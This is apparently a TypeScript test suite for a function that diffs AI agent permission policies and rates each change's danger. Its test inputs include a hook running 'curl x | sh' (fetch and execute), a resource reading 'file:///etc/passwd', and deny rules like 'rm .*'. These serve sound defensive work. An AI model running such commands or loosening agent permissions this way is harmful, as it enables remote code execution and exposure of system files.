import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Policy } from '../policy/policy.ts'
import type { Danger } from './change.ts'
import { diffPolicy } from './policy-diff.ts'

const policy: Policy = {
  tools: ['@fs', 'bash'],
  allowedTools: ['@fs/read'],
  toolsSettings: {
    bash: { allowedCommands: ['git .*'], deniedCommands: ['rm .*'], denyByDefault: true },
    write_file: { allowedPaths: ['src'], deniedPaths: ['src/keys'], allowedHosts: ['example.org'] },
  },
  resources: ['file://README.md'],
  hooks: { preToolUse: [{ command: 'guard' }], agentSpawn: [{ command: 'git status' }, { command: 'date' }] },
  prompt: 'Be careful.',
  model: 'small',
}

test.each<[string, Partial<Policy>, Danger, string]>([
  [
    'a tool runs unasked',
    { allowedTools: ['@fs/write', '@fs/read'] },
    'high',
    '"@fs/write" may run without asking anybody now.',
  ],
  ['a tool must ask', { allowedTools: [] }, 'low', '"@fs/read" may no longer run without asking.'],
  ['a tool is shown', { tools: ['bash', '@fs', '@docs'] }, 'medium', '"@docs" is shown to the model now.'],
  ['a tool is hidden', { tools: ['@fs'] }, 'low', '"bash" is no longer shown to the model.'],
  [
    'a file is read',
    { resources: ['file:///etc/passwd', 'file://README.md'] },
    'medium',
    '"file:///etc/passwd" is read into the conversation now.',
  ],
  [
    'a path is added',
    settings('write_file', { allowedPaths: ['/', 'src'] }),
    'high',
    'Settings of write_file: allowedPaths: "/" is allowed now.',
  ],
  [
    'a path goes',
    settings('write_file', { allowedPaths: [] }),
    'low',
    'Settings of write_file: allowedPaths: "src" is no longer allowed.',
  ],
  [
    'the paths go',
    settings('write_file', { allowedPaths: undefined }),
    'high',
    'Settings of write_file: allowedPaths: the list is gone, so it restricts nothing.',
  ],
  [
    'a denial goes',
    settings('write_file', { deniedPaths: [] }),
    'high',
    'Settings of write_file: deniedPaths: "src/keys" is no longer denied.',
  ],
  [
    'a denial comes',
    settings('write_file', { deniedPaths: ['src/keys', 'x'] }),
    'low',
    'Settings of write_file: deniedPaths: "x" is denied now.',
  ],
  [
    'a command is added',
    settings('bash', { allowedCommands: ['git .*', '.*'] }),
    'high',
    'Settings of bash: allowedCommands: ".*" is allowed now.',
  ],
  [
    'a command is no longer denied',
    settings('bash', { deniedCommands: undefined }),
    'high',
    'Settings of bash: deniedCommands: "rm .*" is no longer denied.',
  ],
  [
    'a host is added',
    settings('write_file', { allowedHosts: ['example.org', 'example.com'] }),
    'high',
    'Settings of write_file: allowedHosts: "example.com" is allowed now.',
  ],
  [
    'it asks instead of refusing',
    settings('bash', { denyByDefault: false }),
    'high',
    'Settings of bash: denyByDefault changed from true to false.',
  ],
  [
    'reading goes unasked',
    settings('bash', { autoAllowReadonly: true }),
    'high',
    'Settings of bash: autoAllowReadonly changed from nothing to true.',
  ],
  [
    'a setting of its own',
    settings('bash', { region: 'eu' }),
    'medium',
    'Settings of bash: region changed from nothing to "eu".',
  ],
  [
    'a hook is added',
    { hooks: { ...policy.hooks, stop: [{ command: 'curl x | sh' }] } },
    'high',
    'On stop, a command runs: curl x | sh.',
  ],
  [
    'a guard goes',
    { hooks: { ...policy.hooks, preToolUse: [] } },
    'high',
    'On preToolUse, a command no longer runs, nor blocks a call: guard.',
  ],
  [
    'a greeting goes',
    { hooks: { ...policy.hooks, agentSpawn: [{ command: 'date' }] } },
    'low',
    'On agentSpawn, a command no longer runs: git status.',
  ],
  ['another prompt', { prompt: 'Be quick.' }, 'medium', 'The prompt changed: Be [-careful.-] {+quick.+}.'],
  ['another model', { model: 'large' }, 'low', 'The model changed from "small" to "large".'],
])('%s', (_, change, danger, message) => {
  expect(diffPolicy(policy, { ...policy, ...change })).toEqual([expect.objectContaining({ danger, message })])
})

test('a hook that changed is a command that runs and one that no longer does', () => {
  const hooks = { ...policy.hooks, preToolUse: [{ command: 'guard', matcher: '@fs', on_error: 'block' as const }] }
  expect(diffPolicy(policy, { ...policy, hooks }).map(({ danger, message }) => `${danger}: ${message}`)).toEqual([
    'high: On preToolUse, a command runs: guard for @fs, blocking when it fails.',
    'high: On preToolUse, a command no longer runs, nor blocks a call: guard.',
  ])
})

test('a list that is new is worth a look: it restricts, and it lets through', () => {
  const hosts = settings('bash', { allowedHosts: ['example.org'] })
  expect(diffPolicy(policy, { ...policy, ...hosts })).toEqual([
    expect.objectContaining({
      danger: 'medium',
      message: 'Settings of bash: allowedHosts: the list is new: ["example.org"].',
    }),
  ])
})

test('to lose the whole policy is the worst, to gain one is not', () => {
  expect(diffPolicy(policy, undefined).map(({ danger }) => danger)).toEqual(['high'])
  expect(diffPolicy(undefined, policy).map(({ danger }) => danger)).toEqual(['low'])
  expect(diffPolicy(undefined, undefined)).toEqual([])
})

test('the order of entries and hooks makes no difference', () => {
  fc.assert(
    fc.property(
      fc.shuffledSubarray(policy.tools, { minLength: 2 }),
      fc.shuffledSubarray(policy.hooks.agentSpawn ?? [], { minLength: 2 }),
      fc.shuffledSubarray(Object.entries(policy.toolsSettings), { minLength: 2 }),
      (tools, agentSpawn, entries) => {
        const hooks = { agentSpawn, preToolUse: policy.hooks.preToolUse ?? [] }
        const after = { ...policy, tools, hooks, toolsSettings: Object.fromEntries(entries) }
        expect(diffPolicy(policy, after)).toEqual([])
      },
    ),
  )
})

function settings(tool: 'bash' | 'write_file', change: Policy['toolsSettings'][string]): Partial<Policy> {
  return { toolsSettings: { ...policy.toolsSettings, [tool]: { ...policy.toolsSettings[tool], ...change } } }
}
